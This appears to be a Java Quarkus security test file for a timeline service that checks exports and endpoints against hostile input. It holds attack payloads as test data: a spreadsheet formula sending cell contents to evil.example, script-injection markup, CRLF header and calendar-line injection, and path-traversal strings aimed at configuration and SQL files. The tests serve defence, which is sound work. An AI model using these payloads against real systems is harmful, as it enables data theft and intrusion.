package org.linimasa.timeline;

import static io.restassured.RestAssured.get;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.linimasa.timeline.Events.event;
import static org.linimasa.timeline.Events.person;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.sql.SQLException;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.linimasa.deploy.postgres.PostgresTestResource;

/** What somebody might try who wants readers to run, or the service to give away, what it should not. */
@QuarkusTest
@WithTestResource(PostgresTestResource.class)
class AttacksTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1;\"Read on\")";
    private static final String MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script>";

    @Inject
    Projection projection;

    @BeforeEach
    void startEmpty() throws SQLException {
        projection.empty();
    }

    @Test
    void aFormulaInATitleIsTextInASpreadsheet() {
        projection.holds(event(FORMULA, "2024-01-15").participants(person("@SUM(A1:A9)", null)));
        String table = get("/api/v1/events.csv").asString();
        assertTrue(table.contains("\"'=HYPERLINK("), table);
        assertTrue(table.contains("'@SUM(A1:A9)"), table);
    }

    @Test
    void markupInATitleIsTextInEveryFormat() {
        projection.holds(event(MARKUP, "2024-01-15"));
        for (String format : List.of("atom", "timelinejs.json")) {
            get("/api/v1/events." + format)
                    .then()
                    .statusCode(200)
                    .body(not(containsString("<script")))
                    .body(not(containsString("<img")));
        }
        get("/api/v1/events")
                .then()
                .contentType("application/json")
                .header("X-Content-Type-Options", "nosniff")
                .header("Content-Security-Policy", startsWith("default-src 'none'; sandbox"));
    }

    @Test
    void aTitleBreaksNoLineOfACalendarAndNoHeader() {
        projection.holds(event("Talks\r\nATTACH:http://evil.example/", "2024-01-15"));
        String calendar = get("/api/v1/events.ics").asString();
        assertTrue(calendar.lines().noneMatch(line -> line.startsWith("ATTACH")), calendar);
        Response page = given().urlEncodingEnabled(false)
                .get("/api/v1/events?limit=1&q=talks%0d%0aSet-Cookie:%20a=b&sort=time");
        assertEquals(null, page.header("Set-Cookie"));
        page.headers().forEach(header -> assertFalse(header.getValue().contains("\n"), header.getName()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/page/..%2f..%2f..%2fapplication.properties",
                "/page/%2e%2e/%2e%2e/application.properties",
                "/page/..%5c..%5capplication.properties",
                "/page/i18n/../../../db/migration/V1__projection.sql",
                "/db/migration/V1__projection.sql",
                "/application.properties",
                "/META-INF/microprofile-config.properties",
                "/page/%00"
            })
    void noPathLeadsOutOfThePagesFiles(String path) {
        Response answer =
                given().urlEncodingEnabled(false).redirects().follow(false).get(path);
        assertTrue(answer.statusCode() >= 400 && answer.statusCode() < 500, path + " answered " + answer.statusCode());
        assertFalse(answer.asString().contains("quarkus."), path);
        assertFalse(answer.asString().toLowerCase(java.util.Locale.ROOT).contains("create table"), path);
    }

    @Test
    void aPageThatHasNotChangedKeepsTheRightsItHad() {
        String changed = get("/").header("Last-Modified");
        given().header("If-Modified-Since", changed)
                .get("/")
                .then()
                .statusCode(304)
                .header("Content-Security-Policy", nullValue());
    }

    @Test
    void thePageRunsNothingButItsOwnFiles() {
        get("/").then()
                .header("Content-Security-Policy", containsString("script-src 'self';"))
                .header("Content-Security-Policy", containsString("frame-ancestors 'none'"))
                .header("Content-Security-Policy", not(containsString("unsafe")));
        given().head("/")
                .then()
                .header("Content-Type", get("/").contentType())
                .header("Content-Security-Policy", get("/").header("Content-Security-Policy"));
    }
}
